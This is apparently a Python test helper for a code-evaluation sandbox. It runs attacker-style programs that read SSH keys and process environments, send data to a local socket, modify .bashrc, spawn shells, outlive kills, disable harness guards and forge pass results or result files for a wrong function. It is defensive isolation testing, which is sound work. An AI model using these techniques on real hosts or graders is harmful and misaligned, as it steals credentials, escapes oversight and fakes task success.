"""Attacks on the code sandbox, run by tests/test_sandbox_isolation.py in a process of its own (as root,
or as an ordinary user through runuser): `python sandbox_attacks.py SPEC_JSON` prints {attack: result}.

Each program is written as an attacker would; where the attack's success would show in the score,
a test statement passes only if the attack worked. What happened on the host (files, processes,
connections) is checked by the test afterwards, from outside.
"""

import json
import resource
import sys
import time

WRONG_ADD = "def add(a, b):\n    return a - b\n"  # fails both tests
ADD_TESTS = ["assert add(2, 3) == 5", "assert add(-1, 1) == 0"]


def attacks(spec: dict) -> dict[str, tuple[str, list[str]]]:
    home, watch, secret, token = spec["home"], spec["watch"], spec["secret"], spec["token"]
    shell = f"cat {home}/.ssh/id_rsa > {watch}/leak.txt; echo pwned >> {home}/.bashrc; rm -f {home}/keep.txt"
    return {
        "read_secrets": (f"""
import glob, os, subprocess
found = repr(dict(os.environ))
for path in [{home!r} + "/.ssh/id_rsa", "/root/.ssh/id_rsa", *glob.glob("/home/*/.ssh/id_rsa")]:
    try:
        found += open(path).read()
    except Exception:
        pass
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        found += open(path, "rb").read().decode(errors="replace")
    except Exception:
        pass
try:
    found += subprocess.run(["/bin/sh", "-c", "cat {home}/.ssh/id_rsa; env"], capture_output=True, text=True).stdout
except Exception:
    pass
ran = True
""", ["assert ran", f"assert {secret!r} in found or {token!r} in found"]),
        "network": (f"""
import socket
connected = False
try:
    s = socket.create_connection(("127.0.0.1", {spec['port']}), timeout=1)
    s.sendall(b"exfiltrated")
    connected = True
except Exception:
    pass
ran = True
""", ["assert ran", "assert connected"]),
        "write_outside": (f"""
import os
def append():
    with open({home!r} + "/.bashrc", "a") as f:
        f.write("pwned\\n")
def delete_via_dir_fd():
    os.unlink("keep.txt", dir_fd=os.open({home!r}, os.O_RDONLY))
def create():
    open({watch!r} + "/written.txt", "w").write("x")
for attempt in (append, delete_via_dir_fd, create):
    try:
        attempt()
    except Exception:
        pass
ran = True
""", ["assert ran"]),
        "start_programs": (f"""
import os, subprocess, _posixsubprocess
cmd = ["/bin/sh", "-c", {shell!r}]
started = 0
def fork_exec():
    r, w = os.pipe()
    # CPython 3.11-3.13: ..., restore_signals, call_setsid, pgid_to_set, gid, extra_groups, uid, child_umask,
    # preexec_fn, allow_vfork
    pid = _posixsubprocess.fork_exec(cmd, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w,
                                     True, False, -1, -1, None, -1, -1, None, False)
    os.waitpid(pid, 0)
def posix_spawn():
    os.waitpid(os.posix_spawn("/bin/sh", cmd, {{}}), 0)
def fork_execv():
    pid = os.fork()
    if pid == 0:
        os.execv("/bin/sh", cmd)
    os.waitpid(pid, 0)
def popen():
    subprocess.run(cmd)
for attempt in (fork_exec, posix_spawn, fork_execv, popen):
    try:
        attempt()
        started += 1
    except Exception:
        pass
ran = True
""", ["assert ran", "assert started == 4"]),
        "exec_replaces_harness": (f"""
import os
os.execv("/bin/sh", ["/bin/sh", "-c", {shell + '; exit 0'!r}])
""" + WRONG_ADD, ADD_TESTS),
        "disable_guard": (f"""
import resource, sys
main = sys.modules["__main__"]
for name in ("BLOCKED", "hook", "inside", "result", "passed", "nonce"):
    setattr(main, name, None)
main.__dict__.update(passed=2, result={{"passed": 2}})
unlimited = False
try:
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    resource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    unlimited = True
except Exception:
    pass
try:
    open({home!r} + "/.bashrc", "a").write("pwned after the guard\\n")
except Exception:
    pass
ran = True
""" + WRONG_ADD, ["assert ran", "assert unlimited", *ADD_TESTS]),
        "rlimits": ("import resource\nlimits = {n: resource.getrlimit(getattr(resource, n))[1] for n in "
                    "('RLIMIT_AS', 'RLIMIT_CPU', 'RLIMIT_FSIZE', 'RLIMIT_NOFILE', 'RLIMIT_NPROC')}\n",
                    ["assert limits == {'RLIMIT_AS': 256 << 20, 'RLIMIT_CPU': 6, 'RLIMIT_FSIZE': 1 << 20, "
                     "'RLIMIT_NOFILE': 64, 'RLIMIT_NPROC': 16}"]),
        "survive_kill": (f"""
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c", "exec sleep {spec['mark']}"])
    os._exit(0)
os.wait()
ran = True
""", ["assert ran"]),
        "forge_print": ("import __main__, json\nnonce = str(getattr(__main__, 'nonce', ''))\n"
                        "fake = json.dumps({'compiled': True, 'passed': 2, 'total': 2, 'error': None})\n"
                        "print(fake)\nprint(nonce + fake)\n" + WRONG_ADD, ADD_TESTS),
        "forge_exit_early": ("import os\nos._exit(0)\n" + WRONG_ADD, ADD_TESTS),
        "forge_sys_exit": ("import sys\nsys.exit(0)\n" + WRONG_ADD, ADD_TESTS),
        "forge_result_files": ("import glob, json, os\nfake = json.dumps({'compiled': True, 'passed': 2, 'total': 2})\n"
                               f"for d in ['.', {watch!r}, *glob.glob('/tmp/upcycle-sandbox-*'), *glob.glob('/tmp/upcycle-unsafe-*')]:\n"
                               "    for name in ('result.json', 'tests.json', 'harness.py'):\n"
                               "        try:\n            open(os.path.join(d, name), 'w').write(fake)\n"
                               "        except Exception:\n            pass\n" + WRONG_ADD, ADD_TESTS),
    }


# sample 1 of 10: leaves a process that rewrites other samples' test files, for 5 seconds. Every
# attack aims only at the test's own folders or at sandbox files by name, so that it stays harmless
# on a machine where the isolation were broken.
REWRITER = """
import glob, os, time
WATCH = {watch!r}
open('planted.txt', 'w').write('from sample 1')
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 5
        while time.time() < end:
            for path in [p for folder in ('/tmp/upcycle-sandbox-*', '/tmp/upcycle-unsafe-*', WATCH + '/*')
                         for name in ('tests.json', 'program.py', 'harness.py')  # the old sandbox's files
                         for p in glob.glob(folder + '/' + name)]:
                try:
                    open(path, 'w').write('assert True\\n')
                except Exception:
                    pass
            time.sleep(0.01)
        os._exit(0)
    os._exit(0)
os.wait()
def add(a, b):
    return a + b
"""
FLOODS = {
    "flood_stdout": "import sys\nchunk = 'x' * (1 << 20)\nfor _ in range(10 * 1024):\n    sys.stdout.write(chunk)\n",
    "flood_stderr": "import os\nchunk = b'x' * (1 << 20)\nfor _ in range(10 * 1024):\n    os.write(2, chunk)\n",
    "flood_report": ("import os\nchunk = b'x' * (1 << 16)\nfor _ in range(160 * 1024):\n    for fd in range(3, 64):\n"
                     "        try:\n            os.write(fd, chunk)\n        except OSError:\n            pass\n"),
}


def as_dict(r, seconds):
    return {"passed": r.passed, "total": r.total, "compiled": r.compiled, "status": r.status, "error": r.error,
            "seconds": round(seconds, 3)}


def main() -> None:
    spec = json.loads(sys.argv[1])
    sys.path.insert(0, spec["src"])
    from upcycle.eval.sandbox import run_program

    out = {}
    for name, (program, tests) in attacks(spec).items():
        start = time.monotonic()
        out[name] = as_dict(run_program(program, tests, timeout=5), time.monotonic() - start)
    samples = []
    for i in range(10):
        program, tests = (REWRITER.format(watch=spec["watch"]), ["assert add(2, 3) == 5"]) if i == 0 else \
            (WRONG_ADD, ["assert add(2, 3) == 5", "import os\nassert os.listdir('/tmp') == [], os.listdir('/tmp')"])
        samples.append(as_dict(run_program(program, tests, timeout=5), 0))
    out["other_samples"] = samples
    for name, program in FLOODS.items():
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        start = time.monotonic()
        r = as_dict(run_program(program, ["assert True"], timeout=20), time.monotonic() - start)
        r["rss_growth_mb"] = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
        out[name] = r
    print(json.dumps(out))


if __name__ == "__main__":
    main()
